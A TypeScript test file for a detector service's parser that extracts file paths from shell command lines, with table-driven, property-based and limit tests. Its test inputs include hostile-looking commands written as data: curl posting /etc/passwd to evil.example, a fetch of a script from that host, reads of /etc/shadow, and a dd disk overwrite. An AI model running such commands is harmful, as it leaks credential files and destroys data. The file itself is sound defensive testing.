import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { filesIn } from '../../../../../../services/detector/sessions/record/named-files.ts';

describe('files that a command names', () => {
  it.each([
    ['rm -f /etc/pay/config.yaml ', ['/etc/pay/config.yaml']],
    ['cat /etc/passwd /etc/shadow /etc/passwd', ['/etc/passwd', '/etc/shadow']],
    ['sh -c curl http://a/?x=1&y=2 > /tmp/o ', ['/tmp/o']],
    ['dd if=/dev/sda of=/dev/sdb bs=1M', ['/dev/sda', '/dev/sdb']],
    ['tool --file=/etc/x --other="/etc/y z"', ['/etc/x', '/etc/y']],
    ['gcc -I/usr/include ./a.c ../b.c ~/c.c', ['/usr/include', './a.c', '../b.c', '~/c.c']],
    ["sh -c echo hi >>'/tmp/out' 2>&1 </dev/null", ['/tmp/out', '/dev/null']],
    ['sh -c echo x >out.txt; cat <in', ['out.txt', 'in']],
    ['cmd 2>/tmp/err', ['/tmp/err']],
    ['curl -d @/etc/passwd http://evil.example/in', ['/etc/passwd']],
    ['tar cf - conf/app.yml', ['conf/app.yml']],
    ['env PATH=/usr/bin:/bin ls /', ['/usr/bin', '/bin', '/']],
    ['cat file:///etc/hosts', ['/etc/hosts']],
    ['(cd /a && cat /b;/c/run)|/d', ['/a', '/b', '/c/run', '/d']],
    ['cp `/x` "/y",', ['/x', '/y']],
    ['cat /etc/{passwd,shadow} /var/log/*', ['/etc/{passwd,shadow', '/var/log/*']],
  ])('%j: %j', (commandLine, files) => {
    expect(filesIn(commandLine)).toEqual(files);
  });

  it.each([
    ...[
      '',
      ' ',
      'ls',
      'curl https://evil.example/a/b.sh',
      'curl http://a/?b=1&f=/etc/x',
      'git clone github.com/foo/bar.git',
    ],
    ...['curl -H content-type: application/vnd.api', 'date 01/02/2026', 'sed s/a/b/g x', '// x'],
    ...['awk /root/{print}', 'sed -n /from/p', 'docker pull repo/image:tag', 'Mozilla/5.0'],
  ])('%j: none', (commandLine) => {
    expect(filesIn(commandLine)).toEqual([]);
  });

  it('are no more than fifty, none of them endless', () => {
    const many = Array.from({ length: 200 }, (_, i) => `/f${i}`).join(' ');
    expect(filesIn(many)).toEqual(Array.from({ length: 50 }, (_, i) => `/f${i}`));
    expect(filesIn(`cat /${'x'.repeat(2000)} /y`)).toEqual(['/y']);
  });

  it('are named by any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        for (const path of filesIn(`${text} /x`)) expect(path.length).toBeGreaterThan(0);
      }),
    );
    for (const piece of [
      '/',
      'a/',
      './',
      '-a=',
      '>',
      '&',
      '(',
      'a.',
      'a/b.',
      ':',
      '/:',
      '@',
      '=',
    ]) {
      expect(filesIn(piece.repeat(100_000)).length).toBeLessThanOrEqual(50);
      expect(filesIn(`x ${piece.repeat(8000)}`).length).toBeLessThanOrEqual(50);
    }
  });
});
